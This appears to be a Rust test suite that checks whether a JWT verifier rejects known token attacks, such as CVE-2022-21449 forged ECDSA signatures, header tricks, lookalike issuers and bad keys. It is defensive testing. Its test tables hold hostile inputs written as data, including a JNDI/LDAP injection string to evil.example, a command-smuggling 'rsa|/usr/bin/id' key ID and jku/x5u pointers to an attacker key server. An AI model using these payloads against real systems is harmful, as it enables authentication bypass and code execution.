//! Known attacks on verifiers that no other table contains.

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use roomkey::App;
use serde_json::{Value, json};

use crate::support::{
    Call, Env, FakeIdp, Key, Reply, claims, encode_part, key_set, merge, now, token,
};

/// An app that accepts tokens of every kind of key.
fn app() -> Arc<App> {
    let keys = key_set(&[&Key::rsa(), &Key::p256(), &Key::p384(), &Key::ed25519()]);
    Env::offline().with("OIDC_JWKS", &keys.to_string()).app()
}

async fn post_token(app: &Arc<App>, token: &str) -> Reply {
    Call::bare().bearer(token).send(app).await
}

/// A valid token of `key` with these bytes as its signature.
fn resigned(key: &Key, signature: &[u8]) -> String {
    let token = key.sign(&key.header(), &claims());
    let (message, _) = token.rsplit_once('.').unwrap();
    format!("{message}.{}", URL_SAFE_NO_PAD.encode(signature))
}

fn signature_of(token: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(token.rsplit('.').next().unwrap()).unwrap()
}

/// An ECDSA signature as ASN.1. OpenSSL creates this form, and JWS does not allow it.
fn as_der(raw: &[u8]) -> Vec<u8> {
    let integer = |half: &[u8]| {
        let digits: Vec<u8> = half.iter().copied().skip_while(|byte| *byte == 0).collect();
        let sign = if digits[0] >= 0x80 { vec![0] } else { Vec::new() };
        [vec![2, u8::try_from(sign.len() + digits.len()).unwrap()], sign, digits].concat()
    };
    let (r, s) = raw.split_at(raw.len() / 2);
    let body = [integer(r), integer(s)].concat();
    [vec![0x30, u8::try_from(body.len()).unwrap()], body].concat()
}

/// CVE-2022-21449: without a range check, `r` and `s` of zero or of the group's order verify every
/// message.
#[tokio::test]
async fn signature_of_zeros_or_the_group_order_is_rejected() {
    const ORDER: [u8; 32] = [
        0xff, 0xff, 0xff, 0xff, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
        0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
    ];
    let app = app();
    let (p256, p384, edwards) = (Key::p256(), Key::p384(), Key::ed25519());
    let one = |length: usize| [vec![0; length - 1], vec![1]].concat();
    let good = p256.sign(&p256.header(), &claims());
    post_token(&app, &good).await.expect_issued("ES256");
    let raw = signature_of(&good);
    let der = as_der(&raw);
    let (r, s) = raw.split_at(32);
    let edwards_good = edwards.sign(&edwards.header(), &claims());
    post_token(&app, &edwards_good).await.expect_issued("EdDSA");
    let edwards_raw = signature_of(&edwards_good);
    let neutral = [vec![1], vec![0; 63]].concat();
    #[rustfmt::skip]
    let rows = [
        ("zeros, P-256",            resigned(&p256, &[0; 64])),
        ("zeros, P-384",            resigned(&p384, &[0; 96])),
        ("zeros, Ed25519",          resigned(&edwards, &[0; 64])),
        ("the neutral point",       resigned(&edwards, &neutral)),
        ("r zero",                  resigned(&p256, &[&[0; 32], s].concat())),
        ("s zero",                  resigned(&p256, &[r, &[0; 32]].concat())),
        ("r and s the order",       resigned(&p256, &[ORDER, ORDER].concat())),
        ("r and s one",             resigned(&p256, &[one(32), one(32)].concat())),
        ("all bits",                resigned(&p256, &[0xff; 64])),
        ("r and s swapped",         resigned(&p256, &[s, r].concat())),
        ("as ASN.1",                resigned(&p256, &der)),
        ("zeros as ASN.1",          resigned(&p256, &[0x30, 6, 2, 1, 0, 2, 1, 0])),
        ("zeros before r and s",    resigned(&p256, &[&[0], r, &[0], s].concat())),
        ("a byte more",             resigned(&p256, &[&raw[..], &[0]].concat())),
        ("a byte less",             resigned(&p256, &raw[..63])),
        ("twice",                   resigned(&p256, &[&raw[..], &raw[..]].concat())),
        ("half, Ed25519",           resigned(&edwards, &edwards_raw[..32])),
        ("a byte more, Ed25519",    resigned(&edwards, &[&edwards_raw[..], &[0]].concat())),
        ("of one key for another",  resigned(&edwards, &raw)),
        ("zeros, RSA",              resigned(&Key::rsa(), &[0; 256])),
        ("one, RSA",                resigned(&Key::rsa(), &one(256))),
        ("a byte before, RSA",      resigned(&Key::rsa(), &[&[0], &signature_of(&token(&json!({})))[..]].concat())),
        ("nothing",                 resigned(&p256, &[])),
    ];
    for (name, token) in rows {
        post_token(&app, &token).await.expect_problem(name, 401, "invalid_token");
    }
}

#[tokio::test]
async fn token_header_with_a_known_attack_is_rejected() {
    let app = app();
    let long = |bytes: usize| json!({ "kid": "k".repeat(bytes) });
    #[rustfmt::skip]
    let rows = [
        ("kid of 4 kB",             long(4_000)),
        ("kid of 8 kB",             long(8_000)),
        ("kid of a megabyte",       long(1_000_000)),
        ("kid a template",          json!({ "kid": "{{7*7}}${jndi:ldap://evil.example}" })),
        ("kid a command",           json!({ "kid": "rsa|/usr/bin/id" })),
        ("kid an object's own",     json!({ "kid": "__proto__" })),
        ("kid a thumbprint",        json!({ "kid": "NzbLsXh8uDCcd-6MNwXF4W_7noWXFZAfHkxZsRGC9Xs" })),
        ("kid with a blank",        json!({ "kid": "rsa " })),
        ("kid true",                json!({ "kid": true })),
        ("a nested token",          json!({ "cty": "JWT" })),
        ("a compressed token",      json!({ "zip": "DEF" })),
        ("an encrypted one",        json!({ "alg": "RSA-OAEP", "enc": "A256GCM" })),
        ("with a password",         json!({ "alg": "PBES2-HS256+A128KW", "p2c": 2_000_000_000 })),
        ("crit of b64",             json!({ "crit": ["b64"], "b64": true })),
        ("crit of alg",             json!({ "crit": ["alg"] })),
        ("b64 as a text",           json!({ "b64": "false" })),
        ("alg with a blank",        json!({ "alg": "RS256 " })),
        ("alg with a NUL",          json!({ "alg": "RS256\0" })),
        ("algs in a list",          json!({ "alg": ["RS256"] })),
        ("alg of a curve beyond",   json!({ "alg": "ES521" })),
        ("alg of Bitcoin's curve",  json!({ "alg": "ES256K" })),
        ("alg by its new name",     json!({ "alg": "Ed448" })),
        ("an empty alg",            json!({ "alg": "" })),
        ("typ with a parameter",    json!({ "typ": "JWT; charset=utf-8" })),
        ("typ of a key set",        json!({ "typ": "jwk-set+json" })),
        ("an ID token by its typ",  json!({ "typ": "id_token+jwt" })),
    ];
    let key = Key::rsa();
    for (name, change) in rows {
        let token = key.sign(&merge(key.header(), &change), &claims());
        post_token(&app, &token).await.expect_problem(name, 401, "invalid_token");
    }
    let inner = token(&json!({}));
    let nested = key.sign_text(&key.header().to_string(), &json!(inner).to_string());
    post_token(&app, &nested).await.expect_problem("a token in a token", 401, "invalid_token");
    let twice = key.header().to_string().replacen('{', r#"{"\u006bid":"p256","#, 1);
    let twice = key.sign_text(&twice, &claims().to_string());
    post_token(&app, &twice).await.expect_problem("kid twice, once escaped", 401, "invalid_token");
}

/// The URL of a key in a header is never fetched.
#[tokio::test]
async fn key_address_in_a_token_is_not_fetched() {
    let idp = FakeIdp::start();
    let evil = FakeIdp::start();
    evil.publish(&[&Key::stranger()]);
    let app = Env::online(&idp).app();
    app.warm_up(now()).await;
    let stranger = Key::stranger();
    for member in ["jku", "x5u", "kid", "iss", "jwks_uri"] {
        let header = merge(stranger.header(), &json!({ member: evil.url("/keys") }));
        let claims = merge(claims(), &json!({ "iss": idp.issuer() }));
        let reply = post_token(&app, &stranger.sign(&header, &claims)).await;
        reply.expect_problem(member, 401, "invalid_token");
    }
    for claim in ["iss", "jwks_uri", "jku"] {
        let claims = merge(claims(), &json!({ "iss": idp.issuer() }));
        let claims = merge(claims, &json!({ claim: evil.issuer() }));
        let reply = post_token(&app, &stranger.sign(&stranger.header(), &claims)).await;
        reply.expect_problem(claim, 401, "invalid_token");
    }
    assert_eq!((evil.counts(), evil.strays()), ((0, 0, 0), Vec::new()));
}

#[tokio::test]
async fn issuer_or_audience_that_looks_alike_is_rejected() {
    let app = Env::offline().app();
    let issuer = |iss: &str| json!({ "iss": iss });
    let audience = |aud: Value| json!({ "aud": aud });
    #[rustfmt::skip]
    let rows = [
        ("a homoglyph",           issuer("https://іdp.example/")),
        ("in full width",         issuer("https://idp。example/")),
        ("in Punycode",           issuer("https://xn--dp-1vb.example/")),
        ("escaped",               issuer("https://idp%2Eexample/")),
        ("an escaped slash",      issuer("https://idp.example%2F")),
        ("the default port",      issuer("https://idp.example:443/")),
        ("a dot after the host",  issuer("https://idp.example./")),
        ("a way back",            issuer("https://idp.example/x/../")),
        ("a user before it",      issuer("https://idp.example/@evil.example")),
        ("the host as a user",    issuer("https://idp.example@evil.example/")),
        ("with a query",          issuer("https://idp.example/?")),
        ("with a fragment",       issuer("https://idp.example/#")),
        ("without TLS",           issuer("http://idp.example/")),
        ("scheme in capitals",    issuer("HTTPS://idp.example/")),
        ("with a backslash",      issuer("https://idp.example\\")),
        ("a blank after it",      issuer("https://idp.example/ ")),
        ("a line after it",       issuer("https://idp.example/\n")),
        ("a NUL after it",        issuer("https://idp.example/\0")),
        ("a zero width joiner",   issuer("https://idp.\u{200d}example/")),
        ("two in one text",       issuer("https://idp.example/ https://evil.example/")),
        ("empty",                 issuer("")),
        ("audience by a homoglyph", audience(json!("rооmkey"))),
        ("one of them a number",  audience(json!(["roomkey", 1]))),
        ("one of them null",      audience(json!(["roomkey", null]))),
        ("one of them a list",    audience(json!(["roomkey", ["roomkey"]]))),
        ("true",                  audience(json!(true))),
        ("every audience",        audience(json!("*"))),
        ("an empty text",         audience(json!(""))),
        ("with a NUL",            audience(json!("roomkey\0"))),
        ("with a line",           audience(json!("roomkey\n"))),
    ];
    for (name, change) in rows {
        post_token(&app, &token(&change)).await.expect_problem(name, 401, "invalid_token");
    }
}

#[tokio::test]
async fn expiry_beyond_the_year_9999_is_rejected() {
    let app = Env::offline().app();
    let key = Key::rsa();
    let by = |claim: &str, number: &str| {
        let payload = merge(claims(), &json!({ claim: "DATE" })).to_string();
        key.sign_text(&key.header().to_string(), &payload.replace("\"DATE\"", number))
    };
    for (number, is_date) in [
        ("1767225900", true),
        ("1767225900.999", true),
        ("1.7672259e9", true),
        ("253402300799", true),
        ("253402300799.5", false),
        ("253402300800", false),
        ("1767225900000", false),
        ("9007199254740993", false),
        ("9223372036854775807", false),
        ("18446744073709551615", false),
        ("18446744073709551616", false),
        ("1e300", false),
        ("1e400", false),
        ("-1", false),
        ("-1767225900", false),
        ("-1e300", false),
        ("-1e-300", false),
        ("\"1767225900\"", false),
        ("\"2026-01-01T00:05:00Z\"", false),
        ("\"\"", false),
        ("null", false),
        ("true", false),
        ("[1767225900]", false),
        ("{\"seconds\":1767225900}", false),
        ("NaN", false),
        ("Infinity", false),
        ("0x6955b92c", false),
        ("01767225900", false),
        ("+1767225900", false),
        ("1_767_225_900", false),
    ] {
        let reply = post_token(&app, &by("exp", number)).await;
        if is_date {
            reply.expect_issued(number);
        } else {
            reply.expect_problem(number, 401, "invalid_token");
        }
        if !is_date && !number.starts_with("-1e-") {
            for claim in ["nbf", "iat"] {
                let reply = post_token(&app, &by(claim, number)).await;
                reply.expect_problem(&format!("{claim} {number}"), 401, "invalid_token");
            }
        }
    }
}

/// Unusable keys, each beside a valid one, and the tokens that they would let pass.
#[tokio::test]
async fn unsuitable_key_of_a_set_verifies_no_token() {
    let (p256, rsa, edwards) = (Key::p256(), Key::rsa(), Key::ed25519());
    let oct = json!({ "kty": "oct", "kid": "p256", "k": encode_part("any"), "alg": "ES256" });
    let with = |key: &Key, change: Value| merge(key.jwk(), &change);
    #[rustfmt::skip]
    let rows = [
        ("an oct key of its name",      &p256,    vec![oct]),
        ("for encryption",              &p256,    vec![with(&p256, json!({ "use": "enc" }))]),
        ("for deriving",                &p256,    vec![with(&p256, json!({ "use": null, "key_ops": ["deriveKey"] }))]),
        ("use of no text",              &p256,    vec![with(&p256, json!({ "use": ["sig"] }))]),
        ("alg of RSA",                  &p256,    vec![with(&p256, json!({ "alg": "RS256" }))]),
        ("alg of ECDH",                 &p256,    vec![with(&p256, json!({ "alg": "ECDH-ES" }))]),
        ("alg none",                    &rsa,     vec![with(&rsa, json!({ "alg": "none" }))]),
        ("alg HMAC",                    &rsa,     vec![with(&rsa, json!({ "alg": "HS256" }))]),
        ("RSA as oct",                  &rsa,     vec![with(&rsa, json!({ "kty": "oct" }))]),
        ("RSA of its own, PSS only",    &rsa,     vec![with(&rsa, json!({ "alg": "PS256" }))]),
        ("Ed25519 as EC",               &edwards, vec![with(&edwards, json!({ "kty": "EC" }))]),
        ("Ed25519 as Ed448",            &edwards, vec![with(&edwards, json!({ "crv": "Ed448" }))]),
        ("at infinity",                 &p256,    vec![with(&p256, json!({ "x": "A".repeat(43), "y": "A".repeat(43) }))]),
        ("two of one name that fit",    &rsa,     vec![rsa.jwk(), with(&Key::rsa_next(), json!({ "kid": "rsa" }))]),
    ];
    for (name, key, mut keys) in rows {
        keys.push(Key::p384().jwk());
        let set = json!({ "keys": keys }).to_string();
        let app = Env::offline().with("OIDC_JWKS", &set).app();
        let reply = post_token(&app, &key.sign(&key.header(), &claims())).await;
        reply.expect_problem(name, 401, "invalid_token");
        let beside = Key::p384();
        let reply = post_token(&app, &beside.sign(&beside.header(), &claims())).await;
        reply.expect_issued(&format!("beside one {name}"));
    }
}
